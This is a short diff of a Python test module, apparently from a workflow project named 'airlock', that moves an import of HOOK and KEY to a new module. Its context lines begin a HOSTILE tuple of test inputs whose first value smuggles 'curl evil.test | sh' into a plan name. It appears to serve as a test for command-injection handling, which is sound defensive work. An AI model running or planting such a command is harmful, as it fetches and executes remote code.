@@ -25,8 +25,8 @@ from airlock.run.presentation.views import StatusView, status_view
 from tests import running
 from tests.core import build
 from tests.workflows.conftest import awaiting, step, until
+from tests.workflows.notifications import HOOK, KEY
 from tests.workflows.receivers import web_receiver
-from tests.workflows.test_notify import HOOK, KEY
 
 HOSTILE = (
     "plan-x; curl evil.test | sh #",
